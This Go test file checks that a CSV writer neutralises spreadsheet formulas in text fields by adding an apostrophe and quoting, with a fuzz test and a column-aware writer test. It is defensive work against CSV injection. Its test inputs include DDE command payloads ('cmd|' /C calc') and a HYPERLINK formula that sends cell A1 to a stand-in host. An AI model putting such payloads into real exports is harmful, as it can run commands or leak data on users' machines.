package csvout

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
)

// Text a spreadsheet program would run as a formula is written as text:
// a ' before it and the field quoted (OWASP's advice for CSV injection);
// numbers, and every field with raw, are written as they are.
func TestAppendTextFieldNeutralisesFormulas(t *testing.T) {
	cases := []struct{ in, want string }{
		{"=1+2", `"'=1+2"`},
		{`=HYPERLINK("http://x.test/?q="&A1,"Click")`, `"'=HYPERLINK(""http://x.test/?q=""&A1,""Click"")"`},
		{"+cmd|' /C calc'!A0", `"'+cmd|' /C calc'!A0"`},
		{"-2+3+cmd|' /C calc'!A0", `"'-2+3+cmd|' /C calc'!A0"`},
		{"@SUM(1+1)", `"'@SUM(1+1)"`},
		{"\t=1+2", "\"'\t=1+2\""},
		{"\r=1+2", "\"'\r=1+2\""},
		{"\tplain", "\"'\tplain\""},
		{"\rplain", "\"'\rplain\""},
		{" =1+2", `"' =1+2"`},
		{"\n@x", "\"'\n@x\""},
		{"\u00a0=1+2", "\"'\u00a0=1+2\""},
		{"\u3000+1", "\"'\u3000+1\""},
		{"-", `"'-"`},
		{"- Repairs", `"'- Repairs"`},
		{"+44 20 7946 0000", `"'+44 20 7946 0000"`},
		{"a,=b", `"a,=b"`}, // not at the start: no cell begins with it
		// Plain numbers are no formula.
		{"-12.50", "-12.50"},
		{"+3", "+3"},
		{"-1,234.56", `"-1,234.56"`},
		{"", ""},
		{"Repairs", "Repairs"},
		{"a=b", "a=b"},
		{"£1,234", `"£1,234"`},
		{"café", "café"},
		{" leading", `" leading"`},
		{"\t", "\"\t\""},
	}
	for _, c := range cases {
		if got := string(appendTextField(nil, c.in, false)); got != c.want {
			t.Errorf("%q: wrote %s, want %s", c.in, got, c.want)
		}
		if got, want := string(appendTextField(nil, c.in, true)), string(appendCSVField(nil, c.in)); got != want {
			t.Errorf("%q raw: wrote %s, want %s", c.in, got, want)
		}
		// Whatever is written reads back as one field: the text, or the
		// text after a '.
		r, err := csv.NewReader(strings.NewReader(string(appendTextField(nil, c.in, false)) + ",x\n")).Read()
		if err != nil || len(r) != 2 || (r[0] != c.in && r[0] != "'"+c.in) {
			t.Errorf("%q: reads back as %q (%v)", c.in, r, err)
		}
	}
}

// No field the neutralised writer writes begins, once read back and its
// leading white space dropped, with a character that starts a formula,
// unless it is a plain number.
func FuzzAppendTextField(f *testing.F) {
	for _, s := range []string{"=1", "\t-2", " @x", "-12.50", "plain", "\u00a0+1"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		b := appendTextField(nil, s, false)
		r, err := csv.NewReader(bytes.NewReader(append(b, '\n'))).Read()
		if err != nil {
			if s == "" || strings.TrimSpace(s) == "" || strings.ContainsAny(s, "\r") {
				return // encoding/csv's reader folds these; the writer test covers them
			}
			t.Fatalf("%q: written as %q, which does not read back: %v", s, b, err)
		}
		if len(r) != 1 {
			t.Fatalf("%q: written as %q, reads back as %d fields", s, b, len(r))
		}
		if formulaLike(r[0]) {
			t.Errorf("%q: written as %q, which a spreadsheet would read as a formula", s, b)
		}
	})
}

// The summary and posts writer writes what encoding/csv writes, but for
// its text columns' formulas; its number columns keep their minus signs.
func TestCSVWriterNeutralisesTextColumnsOnly(t *testing.T) {
	rows := [][]string{
		{"dimension", "key", "total", "social", "share", "row", "fte", "amount"},
		{"business_unit", "=cmd|' /C calc'!A0", "-12.50", "-1.00", "-0.5", "12", "-1.5", "-3.00"},
		{"business_unit", "Housing, north", "100.00", "0.00", "", "3", "1", "4.00"},
	}
	for _, raw := range []bool{false, true} {
		var got, want bytes.Buffer
		w := NewWriter(&got, raw)
		ew := csv.NewWriter(&want)
		for _, r := range rows {
			if err := w.Write(r); err != nil {
				t.Fatal(err)
			}
			wr := r
			if !raw && r[1] != "key" {
				wr = append([]string{}, r...)
				wr[1] = strings.TrimSuffix(strings.TrimPrefix(string(appendTextField(nil, r[1], false)), `"`), `"`)
				wr[1] = strings.ReplaceAll(wr[1], `""`, `"`)
			}
			ew.Write(wr)
		}
		w.Flush()
		ew.Flush()
		if err := w.Error(); err != nil {
			t.Fatal(err)
		}
		wantText := want.String()
		if !raw {
			// encoding/csv quotes only where it must; the neutralised
			// field is quoted too.
			wantText = strings.Replace(wantText, `,'=cmd|' /C calc'!A0,`, `,"'=cmd|' /C calc'!A0",`, 1)
		}
		if got.String() != wantText {
			t.Errorf("raw %v: wrote\n%s\nwant\n%s", raw, got.String(), wantText)
		}
	}
}
